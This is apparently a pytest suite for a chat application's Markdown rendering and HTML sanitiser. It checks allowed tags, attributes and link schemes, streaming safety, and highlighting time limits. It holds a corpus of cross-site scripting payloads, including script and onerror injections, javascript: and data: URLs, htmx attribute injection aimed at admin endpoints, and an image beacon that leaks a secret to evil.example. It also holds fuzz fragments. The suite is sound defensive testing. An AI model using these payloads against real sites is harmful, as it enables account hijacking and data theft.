"""Tests for chat.rendering (catalogue XS-01..XS-05, XS-09).

The allow-list oracle below is written independently of the module's own
constants, so a loosened policy in chat/rendering.py fails here.
"""

from __future__ import annotations

import html
import random
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chat import rendering
from chat.rendering import pygments_css, render_markdown, render_plain

# --------------------------------------------------------------------------
# Oracle
# --------------------------------------------------------------------------

OK_TAGS = {
    "p", "br", "hr", "strong", "em", "s", "del", "code", "pre", "span",
    "blockquote", "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6",
    "table", "thead", "tbody", "tr", "th", "td", "a",
}  # fmt: skip
FORBIDDEN_TAGS = {
    "script", "iframe", "style", "form", "base", "meta", "object", "embed",
    "svg", "math", "img", "link", "input", "button", "textarea", "frame",
    "frameset", "template", "video", "audio", "source", "picture", "noscript",
    "mglyph", "mtext", "xmp", "title", "body", "html", "head",
}  # fmt: skip
OK_ATTRS = {
    "a": {"href", "rel", "target"},
    "ol": {"start"},
    "th": {"align"},
    "td": {"align"},
    "span": {"class"},
}
OK_SCHEMES = {"http", "https", "mailto"}
REL = {"noopener", "noreferrer", "nofollow"}


class _Walker(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.other: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_comment(self, data):
        self.other.append("comment:" + data)

    def handle_decl(self, decl):
        self.other.append("decl:" + decl)

    def handle_pi(self, data):
        self.other.append("pi:" + data)

    def unknown_decl(self, data):
        self.other.append("unknown:" + data)


def walk(out: str) -> list[tuple[str, dict[str, str | None]]]:
    w = _Walker()
    w.feed(out)
    w.close()
    assert not w.other, w.other
    return [(tag, dict(attrs)) for tag, attrs in w.elements]


def assert_safe(out: str) -> list[tuple[str, dict[str, str | None]]]:
    assert isinstance(out, str)
    assert "\x00" not in out
    elements = walk(out)
    for tag, attrs in elements:
        assert tag not in FORBIDDEN_TAGS, (tag, out)
        assert tag in OK_TAGS, (tag, out)
        for name, value in attrs.items():
            low = name.lower()
            assert not low.startswith("on"), (name, out)
            assert not low.startswith(("hx-", "data-")), (name, out)
            assert low not in {"style", "id", "name", "src", "srcdoc", "action", "formaction"}, (name, out)
            assert name in OK_ATTRS.get(tag, set()), (tag, name, out)
            if name == "class":
                assert value
                for cls in value.split():
                    assert cls.startswith("tok-"), (cls, out)
            if name == "align":
                assert value in {"left", "center", "right"}
            if name == "start":
                assert value and value.isdigit()
        if tag == "a":
            href = attrs.get("href")
            if href is not None:
                assert urlsplit(href).scheme.lower() in OK_SCHEMES, (href, out)
                assert href.lower().startswith(("http://", "https://", "mailto:")), (href, out)
            rel = set((attrs.get("rel") or "").split())
            assert rel >= REL, (attrs, out)
            if "target" in attrs:
                assert attrs["target"] == "_blank"
                assert "noopener" in rel
    return elements


def tags(out: str) -> list[str]:
    return [tag for tag, _ in walk(out)]


# --------------------------------------------------------------------------
# XS-01 payload corpus
# --------------------------------------------------------------------------

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "![](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif?secret=abc)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x][r]\n\n[r]: https://ok.example "t" onmouseover=alert(1)',
    '<form action="https://evil.example"><input name=q><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    '<iframe><img title="</iframe><img src onerror=alert(1)>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    '<embed src="javascript:alert(1)">',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '[click](https://ok.example"onmouseover="alert(1))',
    "[x](https://ok.example)<img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```javascript:alert(1)\nx\n```",
    "[x](//evil.example/path)",
    "[x](/admin/delete)",
    "[x](#top)",
    # XS-04 htmx attribute injection
    '<a href="https://ok.example" hx-get="/admin/users" hx-trigger="load">x</a>',
    '<div hx-post="/c/1/delete" hx-trigger="load"></div>',
    '<span data-hx-delete="/c/1">x</span>',
    '<button hx-on:click="alert(1)">x</button>',
    '<div hx-vals=\'{"is_staff": true}\' hx-headers=\'{"X-CSRFToken": "x"}\'>x</div>',
    '<p hx-on::after-request="alert(1)" data-hx-get="/x">x</p>',
]

CONTEXTS = [
    "{p}",
    "before {p} after",
    "- item {p}",
    "> quote {p}",
    "| a | b |\n|---|---|\n| {p} | x |",
    "# {p}",
    "**{p}**",
    "[{p}](https://ok.example)",
]


@pytest.mark.parametrize("context", CONTEXTS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_corpus_is_neutralised(payload, context):
    out = render_markdown(context.replace("{p}", payload))
    elements = assert_safe(out)
    assert "img" not in [tag for tag, _ in elements]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_corpus_through_sanitiser_alone(payload):
    """XS-03: the final-HTML sanitiser is safe on its own, even for raw HTML."""
    assert_safe(rendering._sanitize(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitiser_stops_raw_html_from_an_unsafe_engine(payload):
    """XS-03: if the engine regressed to html=True, sanitising the final HTML
    still stops every payload (the Open WebUI CVE-2026-44568 ordering)."""
    unsafe = MarkdownIt("commonmark")  # html=True: deliberately unsafe
    assert_safe(rendering._sanitize(unsafe.render(payload)))


def test_reference_definition_only_stopped_after_rendering():
    """XS-03: harmless-looking Markdown that becomes a javascript: link when
    rendered by a default engine; only post-render sanitising removes it."""
    src = "[click me][r]\n\n[r]: <javascript:alert(1)>"
    engine = MarkdownIt("commonmark")
    engine.validateLink = lambda url: True  # a regressed link validator
    raw = engine.render(src)
    assert 'href="javascript:' in raw  # the source text itself looks inert
    cleaned = rendering._sanitize(raw)
    assert "javascript" not in cleaned
    assert_safe(cleaned)
    ours = render_markdown(src)
    assert "<a" not in ours and 'href="javascript' not in ours


def test_raw_html_is_shown_as_text():
    out = render_markdown("<b>bold?</b> <script>alert(1)</script>")
    assert "&lt;b&gt;bold?&lt;/b&gt;" in out
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    assert tags(out) == ["p"]


def test_dangerous_links_are_not_links():
    for src in [
        "[x](javascript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](data:text/html;base64,AAAA)",
        "[x](vbscript:x)",
        "[x](file:///etc/passwd)",
        "[x](/relative)",
        "[x](//evil.example)",
    ]:
        out = render_markdown(src)
        assert "<a" not in out, (src, out)


def test_sanitiser_strips_htmx_attributes_and_style():
    dirty = (
        '<a href="https://ok.example" hx-get="/admin" hx-trigger="load" data-hx-post="/x" '
        'hx-on:click="alert(1)" style="color:red" id="i" data-x="1" class="evil" target="_top" rel="opener">x</a>'
        '<pre><code class="language-python evil">x</code></pre>'
        '<span class="tok-k hidden">k</span><p class="tok-k">p</p>'
    )
    out = rendering._sanitize(dirty)
    assert_safe(out)
    for bad in ("hx-", "style", "id=", "data-", "evil", "hidden", "_top", 'opener"', "language-"):
        assert bad not in out, (bad, out)
    assert '<span class="tok-k">k</span>' in out
    assert "<p>p</p>" in out


# --------------------------------------------------------------------------
# XS-02 engine configuration pinned
# --------------------------------------------------------------------------


def test_markdown_engine_config_is_pinned():
    md = rendering._MD
    assert md.options["html"] is False
    assert md.options["linkify"] is True
    assert md.options["typographer"] is False
    active = md.get_active_rules()
    assert {"table", "fence"} <= set(active["block"])
    assert "html_block" not in active["block"]
    assert {"linkify", "strikethrough", "link", "image"} <= set(active["inline"])
    assert "html_inline" not in active["inline"]
    assert "linkify" in active["core"]
    assert md.linkify is not None
    fallback = rendering._MD_NO_LINK_SYNTAX
    assert fallback.options["html"] is False
    assert "html_inline" not in fallback.get_active_rules()["inline"]


def test_commonmark_preset_would_enable_html():
    """Why the renderer must never be built from the "commonmark" preset."""
    assert MarkdownIt("commonmark").options["html"] is True
    assert MarkdownIt("js-default").options["html"] is False


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:alert(1)",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/png;base64,AAAA",
        "/relative",
        "//evil.example",
        "#frag",
        "ftp://example.com",
        "",
    ],
)
def test_validate_link_rejects(url):
    assert rendering._MD.validateLink(url) is False


@pytest.mark.parametrize(
    "url", ["http://example.com", "https://example.com/a?b=1", "HTTPS://X.Y", "mailto:a@b.c"]
)
def test_validate_link_accepts(url):
    assert rendering._MD.validateLink(url) is True


# --------------------------------------------------------------------------
# XS-05 streaming: split tags, every prefix safe
# --------------------------------------------------------------------------

STREAMS = [
    ["<im", "g src=x on", "error=alert(1)>"],
    ["[x](java", "script:alert(1))"],
    ["[x](https://ok.example", ") and ![y](https://ev", "il.example/p.gif)"],
    ["```pyt", "hon\nprint('<script>')\n", "```"],
    ["<a hr", 'ef="javascript:alert(1)" hx-g', 'et="/admin">x</a>'],
    ["[a][r]\n\n[r]: java", "script:alert(1)"],
]


@pytest.mark.parametrize("chunks", STREAMS)
def test_every_stream_prefix_is_safe(chunks):
    buffer = ""
    for chunk in chunks:
        plain = render_plain(chunk)
        assert "<" not in plain and ">" not in plain
        buffer += chunk
        for i in range(1, len(buffer) + 1):
            assert_safe(render_markdown(buffer[:i]))


# --------------------------------------------------------------------------
# XS-09 links
# --------------------------------------------------------------------------


def test_every_link_has_rel_and_safe_target():
    src = (
        "[a](https://a.example) <https://b.example> https://c.example www.d-example.org "
        "mail@e-example.org [m](mailto:x@f.example) ![img](https://g.example/i.png)\n\n"
        "[ref][r]\n\n[r]: https://h.example"
    )
    out = render_markdown(src)
    anchors = [attrs for tag, attrs in assert_safe(out) if tag == "a"]
    assert len(anchors) == 8
    for attrs in anchors:
        assert attrs["rel"] == "noopener noreferrer nofollow"
        assert attrs["target"] == "_blank"
        assert attrs["href"]


def test_images_become_links_not_img():
    out = render_markdown("![a chart](https://evil.example/pixel.gif?leak=secret)")
    assert "<img" not in out
    [(_tag, attrs)] = [e for e in walk(out) if e[0] == "a"]
    assert attrs["href"] == "https://evil.example/pixel.gif?leak=secret"
    assert ">a chart</a>" in out
    # No alt text: the URL is the visible label, so the user sees where it goes.
    assert ">https://x.example/p.png</a>" in render_markdown("![](https://x.example/p.png)")
    # Image inside a link: just the alt text inside the outer link, no nested <a>.
    nested = render_markdown("[![logo](https://x.example/l.png)](https://y.example)")
    assert tags(nested) == ["p", "a"]
    assert 'href="https://y.example"' in nested and ">logo</a>" in nested
    # data: images are not links at all.
    assert "<a" not in render_markdown("![x](data:image/png;base64,AAAA)")


# --------------------------------------------------------------------------
# Code highlighting
# --------------------------------------------------------------------------


def test_python_code_is_highlighted_with_token_classes():
    out = render_markdown('```python\ndef f(x):\n    return "<b>"  # note\n```')
    assert_safe(out)
    assert out.startswith("<pre><code>")
    for cls in ("tok-k", "tok-nf", "tok-s2", "tok-c1"):
        assert f'class="{cls}"' in out, cls
    assert "&lt;b&gt;" in out
    assert "language-" not in out


def test_unknown_language_falls_back_to_escaped_text():
    out = render_markdown("```no-such-language-xyz\n<script>alert(1)</script>\n```")
    assert out == "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>\n"
    assert rendering._highlight("x", "no-such-language-xyz", "") == ""


@pytest.mark.parametrize("lang", ["py", "Python", "python3", "js", "ts", "sh", "yml", "c++", "rs", "golang"])
def test_common_aliases_are_highlighted(lang):
    out = render_markdown(f"```{lang}\nif (x) {{ y = 1 }}\n```")
    assert 'class="tok-' in out, lang
    assert_safe(out)


@pytest.mark.parametrize("lang", ["mcschema", "brainfuck", "text", "", "x" * 100])
def test_languages_outside_the_allow_list_are_not_highlighted(lang):
    out = render_markdown(f"```{lang}\n{{ a < b }}\n```")
    assert out == "<pre><code>{ a &lt; b }\n</code></pre>\n"


def test_highlight_allow_list_entries_all_resolve():
    from pygments.lexers import find_lexer_class_by_name

    for alias in rendering.HIGHLIGHT_LANGUAGES:
        assert find_lexer_class_by_name(alias).aliases[0] == alias


_HOSTILE_ALPHABET = list("ab1 \n\t'\"\\/*#<>(){}[]$`@%;:=!?|&^~,._-+")
HOSTILE_CODE = [
    "".join(random.Random(7).choice(_HOSTILE_ALPHABET) for _ in range(19_000)),
    ("a = " * 20 + "\n") * 230,  # single-match quadratic in the INI lexer
    ("{-" * 30 + "\n") * 300,
    ("'" * 1900 + "\n") * 10,
]


# The lexers found slow on hostile input, and the most common ones; bench/render.py times all of them.
GUARDED_LANGUAGES = ["java", "ini", "c", "javascript", "python", "bash", "sql", "yaml"]


@pytest.mark.parametrize("lang", GUARDED_LANGUAGES)
def test_highlighting_hostile_code_finishes_and_stays_safe(lang):
    """Regression guard: Pygments lexers are often quadratic on hostile input; chunking and the
    per-render deadline bound every allowed lexer (a runaway one trips pytest-timeout; figures are in
    bench/render.py, not asserted here)."""
    for code in HOSTILE_CODE:
        out = rendering._highlight(code, lang, "")
        assert isinstance(out, str)
        assert_safe(out)


def test_past_the_highlight_budget_blocks_fall_back_to_plain_text(monkeypatch):
    block = "```python\ndef f(x):\n    return x < 2\n```\n\n"
    assert 'class="tok-' in render_markdown(block)
    monkeypatch.setattr(rendering, "HIGHLIGHT_BUDGET_SECONDS", -1.0)  # the deadline has always passed
    out = render_markdown(block * 5)
    assert out.count("<pre><code>") == 5
    assert 'class="tok-' not in out
    assert out.count("return x &lt; 2") == 5  # the text is all there, only uncoloured
    assert_safe(out)


def test_chunked_highlighting_preserves_text():
    fn = 'def f(x):\n    """doc\n    string"""\n    return {"k": x < 3}  # c\n\n'
    code = fn * (15_000 // len(fn))
    out = rendering._highlight(code, "python", "")
    assert out.count('class="tok-k"') == 2 * (15_000 // len(fn))
    text = html.unescape(re.sub(r"<[^>]+>", "", out))
    assert text == code


def test_very_long_lines_are_not_highlighted():
    code = "x = 1; " * (rendering.MAX_HIGHLIGHT_LINE_CHARS // 7 + 10) + "\n"
    assert rendering._highlight(code, "python", "") == ""


def test_code_without_language_and_inline_code_are_plain():
    out = render_markdown("```\na < b\n```\n\nuse `x<y` here")
    assert "<span" not in out
    assert "<pre><code>a &lt; b\n</code></pre>" in out
    assert "<code>x&lt;y</code>" in out


def test_hostile_info_strings_do_not_escape():
    for info in ['"><script>alert(1)</script>', "python onerror=alert(1)", "python\x00", "PYTHON"]:
        out = render_markdown(f"```{info}\nprint(1)\n```")
        assert_safe(out)
        assert "<pre><code>" in out


def test_huge_code_block_is_not_highlighted():
    code = "x = 1\n" * (rendering.MAX_HIGHLIGHT_CHARS // 6 + 10)
    out = render_markdown(f"```python\n{code}```")
    assert "<span" not in out
    assert out.startswith("<pre><code>x = 1\n")


def test_pygments_css_matches_emitted_classes():
    css = pygments_css("default", "monokai", scope=".msg")
    assert ".msg pre .tok-k {" in css
    assert ".msg pre {" in css
    assert "@media (prefers-color-scheme: dark)" in css
    assert ".hll" not in css and "linenos" not in css
    allowed = rendering.ALLOWED_CLASSES["span"]
    styled = {part.split()[0][1:] for part in css.split(".msg pre ")[1:] if part.startswith(".")}
    assert styled and styled <= allowed
    dark = pygments_css("default", "monokai", scope=".msg", dark_selector='[data-theme="dark"]')
    assert "@media" not in dark
    assert '[data-theme="dark"] .msg pre .tok-k {' in dark


# --------------------------------------------------------------------------
# Markdown features
# --------------------------------------------------------------------------


def test_markdown_features_render():
    src = (
        "# Title\n\n"
        "Some *em*, **strong**, ~~gone~~ and `inline` text.\n\n"
        "- one\n- two\n\n"
        "3. three\n4. four\n\n"
        "> quoted\n\n"
        "---\n\n"
        "| left | mid | right |\n|:-----|:---:|------:|\n| a | b | c |\n\n"
        "[link](https://example.com/x) and https://bare.example.org/y\n"
    )
    out = render_markdown(src)
    elements = assert_safe(out)
    seen = {tag for tag, _ in elements}
    assert {"h1", "em", "strong", "s", "code", "ul", "ol", "li", "blockquote", "hr", "table"} <= seen
    assert {"thead", "tbody", "tr", "th", "td", "a", "p"} <= seen
    assert '<ol start="3">' in out
    assert '<th align="left">left</th>' in out
    assert '<th align="center">mid</th>' in out
    assert '<td align="right">c</td>' in out
    assert "<em>em</em>" in out and "<strong>strong</strong>" in out and "<s>gone</s>" in out
    assert "<code>inline</code>" in out
    hrefs = [attrs["href"] for tag, attrs in elements if tag == "a"]
    assert hrefs == ["https://example.com/x", "https://bare.example.org/y"]


def test_typographer_is_off():
    out = render_markdown('"quotes" -- (c) ...')
    assert "&quot;quotes&quot; -- (c) ..." in out or '"quotes" -- (c) ...' in out


# --------------------------------------------------------------------------
# Robustness
# --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "src",
    [
        "",
        "\x00",
        "a\x00b",
        "\ud800",
        "x\udfffy",
        "\ud83d\ude00",
        "\x01\x02\x1b[31mred\x7f",
        "\u202egnp.exe",
        "\ufeff\ufffe\uffff",
        ">" * 20_000,
        "- " * 20_000,
        "[" * 50_000,
        "![" * 20_000,
        "*_" * 10_000,
        "`" * 30_000,
        "|" * 30_000 + "\n" + "-|" * 1000,
        "\n" * 50_000,
        "<" * 50_000,
        "".join("  " * i + "- x\n" for i in range(300)),
        "x" * (rendering.MAX_MARKDOWN_CHARS + 1),
        "<script>" * (rendering.MAX_MARKDOWN_CHARS // 8 + 1),
    ],
)
def test_never_raises_and_stays_safe(src):
    out = render_markdown(src)
    assert_safe(out)
    assert "\ud800" not in out and "\udfff" not in out
    out.encode("utf-8")  # strict: no lone surrogates survive


def test_nul_and_surrogates_are_cleaned():
    assert render_markdown("a\x00b") == "<p>ab</p>\n"
    assert render_markdown("a\ud800b") == "<p>a\ufffdb</p>\n"
    assert render_markdown("\ud83d\ude00") == "<p>\U0001f600</p>\n"


def test_non_str_input_does_not_raise():
    assert render_markdown(None) == ""  # type: ignore[arg-type]
    assert render_markdown(42) == "<p>42</p>\n"  # type: ignore[arg-type]


def test_oversized_input_is_escaped_plain_text():
    src = "<b>x</b>\n" * (rendering.MAX_MARKDOWN_CHARS // 9 + 1)
    out = render_markdown(src)
    assert out.startswith("<p>&lt;b&gt;x&lt;/b&gt;<br>")
    assert set(tags(out)) == {"p", "br"}


def test_bracket_flood_is_bounded():
    out = render_markdown("[" * 99_000)
    assert_safe(out)
    # Above the threshold bare URLs are still linked, [text](url) is not.
    many = "[" * (rendering.MAX_LINK_BRACKETS + 1) + " https://ok.example [x](https://no.example)"
    out = render_markdown(many)
    assert 'href="https://ok.example"' in out
    assert "[x](<a" in out  # link syntax left as text; only the bare URL inside is linkified


def test_result_is_safe_string_for_templates():
    out = render_markdown("*x*")
    assert hasattr(out, "__html__")


def test_render_plain():
    assert render_plain('<img src=x onerror="a">&\x00') == "&lt;img src=x onerror=&quot;a&quot;&gt;&amp;"
    assert render_plain("\ud800") == "\ufffd"
    assert not hasattr(render_plain("x"), "__html__")


# --------------------------------------------------------------------------
# Property tests
# --------------------------------------------------------------------------

FRAGMENTS = [
    "<", ">", "/", "script", "img", "svg", "iframe", "style", "math", "a", " ", "\n", "\t", "\x00",
    "\ud800", "\udc00", "javascript:", "JaVaScRiPt:", "vbscript:", "data:text/html,", "file:",
    "http://", "https://", "mailto:", "//", "](", "[", "]", "(", ")", "!", "![", "[x]: ", "<http",
    "onerror=", "onload=", "alert(1)", "src=", "href=", "hx-get=", "data-hx-post=", "hx-on:click=",
    "style=", '"', "'", "`", "```", "```python\n", "~~", "*", "_", "|", "-", "> ", "# ", "1. ",
    "&#", "&#x6A;", "106;", "&lt;", "&", ";", "<!--", "-->", "<![CDATA[", "\\", "=", "\u202e",
    "www.", ".com", "@", "x",
]  # fmt: skip

dangerous_text = st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=4), max_size=60).map("".join)
any_text = st.text(st.characters(), max_size=400)

PROPERTY_SETTINGS = settings(
    max_examples=300,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow],
)


@PROPERTY_SETTINGS
@given(dangerous_text)
def test_property_dangerous_fragments(src):
    assert_safe(render_markdown(src))
    plain = render_plain(src)
    assert "<" not in plain and "\x00" not in plain


@PROPERTY_SETTINGS
@given(any_text)
def test_property_arbitrary_unicode(src):
    out = render_markdown(src)
    assert_safe(out)
    out.encode("utf-8")


@PROPERTY_SETTINGS
@given(dangerous_text)
def test_property_sanitiser_alone_on_raw_html(src):
    assert_safe(rendering._sanitize(rendering._prepare(src)))
